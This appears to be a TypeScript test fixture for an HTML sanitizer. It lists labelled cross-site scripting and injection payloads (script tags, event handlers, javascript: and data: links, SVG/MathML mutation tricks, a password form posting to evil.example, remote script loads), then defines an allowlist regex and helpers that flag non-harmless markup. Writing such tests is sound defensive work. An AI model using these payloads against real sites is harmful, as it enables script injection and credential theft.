/**
 * Formatted texts that somebody attacks with, by what they try. `alert` stands for all they would do.
 */
export const HOSTILE_TEXTS: readonly (readonly [attempt: string, html: string])[] = [
  ['a script', '<p>Hallo</p><script>alert(1)</script>'],
  ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
  ['a script in capitals with a space', '<SCRIPT >alert(1)</SCRIPT >'],
  ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script without an end', '<p>Hallo<script>alert(1)'],
  ['a script with a slash', '<script/x>alert(1)</script>'],
  ['a module', '<script type="module">import("https://evil.example/x.js")</script>'],
  ['a handler of a picture', '<img src=x onerror=alert(1)>'],
  ['a handler of a paragraph', '<p onclick="alert(1)" onmouseover=alert(2)>Hallo</p>'],
  ['a handler behind a slash', '<p/onpointerenter=alert(1)>Hallo</p>'],
  ['a handler behind a line break', '<a href="/faq"\nonfocus\n=\n"alert(1)" autofocus>Hallo</a>'],
  ['a handler behind a null', '<p on\u0000click=alert(1)>Hallo</p>'],
  ['a handler of an unknown element', '<x onclick=alert(1) tabindex=1>Hallo</x>'],
  ['a handler of details', '<details open ontoggle=alert(1)>Hallo</details>'],
  ['a handler of an animation', '<p style="animation:x" onanimationstart=alert(1)>Hallo</p>'],
  ['a handler in a quote that never ends', '<p title="x onclick=alert(1)>Hallo</p>'],
  ['a javascript address', '<a href="javascript:alert(1)">Hallo</a>'],
  ['a javascript address in mixed case', '<a href="JaVaScRiPt:alert(1)">Hallo</a>'],
  ['a javascript address with entities', '<a href="&#106;avascript&colon;alert(1)">Hallo</a>'],
  ['a javascript address with a tab', '<a href="java\tscript:alert(1)">Hallo</a>'],
  [
    'a javascript address with entity breaks',
    '<a href="java&Tab;scr&NewLine;ipt:alert(1)">Hallo</a>',
  ],
  ['a javascript address behind a blank', '<a href=" \u0001javascript:alert(1)">Hallo</a>'],
  ['a javascript address behind nothing', '<a href="&#8203;javascript:0||alert(1)">Hallo</a>'],
  ['a vbscript address', '<a href="vbscript:msgbox(1)">Hallo</a>'],
  ['a data address', '<a href="data:text/html,<script>alert(1)</script>">Hallo</a>'],
  [
    'a data address in base64',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  ],
  ['a blob address', '<a href="blob:https://evil.example/1">Hallo</a>'],
  ['a file address', '<a href="file:///etc/passwd">Hallo</a>'],
  ['an address without a scheme', '<a href="//evil.example">Hallo</a>'],
  ['an address with backslashes', '<a href="/\\evil.example">Hallo</a>'],
  ['an address with a user name', '<a href="https://bank.example@evil.example/">Hallo</a>'],
  ['an address with hidden letters', '<a href="https://evil\u202e.example">Hallo</a>'],
  [
    'a window that it takes over',
    '<a href="https://evil.example" target="_top" rel="opener">Hallo</a>',
  ],
  ['an svg with a handler', '<svg onload=alert(1)><circle r=9></circle></svg>'],
  ['an svg with a script', '<svg><script>alert(1)</script></svg>'],
  ['an svg with a link', '<svg><a xlink:href="javascript:alert(1)"><text>Hallo</text></a></svg>'],
  ['an svg that sets a handler', '<svg><set attributeName=onload to=alert(1) /></svg>'],
  [
    'an svg with foreign content',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  ],
  [
    'mathematics with a link',
    '<math><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
  ],
  [
    'markup that changes when it is read twice',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  ],
  ['a style that hides the page', '<style>body{display:none}</style><p>Hallo</p>'],
  ['a style that loads', '<p style="background:url(https://evil.example/x.png)">Hallo</p>'],
  [
    'a style that covers the page',
    '<p style="position:fixed;inset:0;text-align:center;z-index:9">Hallo</p>',
  ],
  ['a style that computes', '<p style="text-align:expression(alert(1))">Hallo</p>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'a form that requests a password',
    '<form action="https://evil.example"><input name=p type=password><button>OK</button></form>',
  ],
  [
    'a base and a refresh',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  ],
  [
    'an object and an embedded file',
    '<object data="javascript:alert(1)"></object><embed src="https://evil.example/x.swf">',
  ],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>--><p>Hallo</p>'],
  [
    'elements that never end',
    '<p><b><i><a href="https://example.org"><ul><li><img src=x onerror=alert(1)//',
  ],
];

const TAG = 'p|br|h[1-6]|blockquote|pre|code|hr|ul|ol|li|strong|b|em|i|u|s|sub|sup|a|span';
const ATTRIBUTE = [
  'href="(?:https?://(?!evil\\.example["/]?.*@)|mailto:|tel:|#|/(?![/\\\\]))[^"<>\\s\\\\]*"',
  'target="_blank"',
  'rel="noopener noreferrer"',
  'dir="(?:ltr|rtl|auto)"',
  'style="text-align: ?(?:left|right|center|justify|start|end);?"',
].join('|');
const HARMLESS = new RegExp(`</?(?:${TAG})(?: (?:${ATTRIBUTE}))* ?/?>`, 'g');

/** What is left of written markup that is none of the harmless: nothing, if all of it is. */
export const harmIn = (html: string): string => {
  const rest = html.replace(HARMLESS, '');
  return /[<>]/.test(rest.replaceAll('&lt;', '').replaceAll('&gt;', '')) ? rest : '';
};

/** What is harmful in elements of a page: others than those of a text, or with other attributes. */
export const harmInElement = (root: Element): readonly string[] =>
  [...root.querySelectorAll('*')].flatMap((one) => {
    const opening = (one.cloneNode(false) as Element).outerHTML;
    return harmIn(opening) === '' ? [] : [opening];
  });
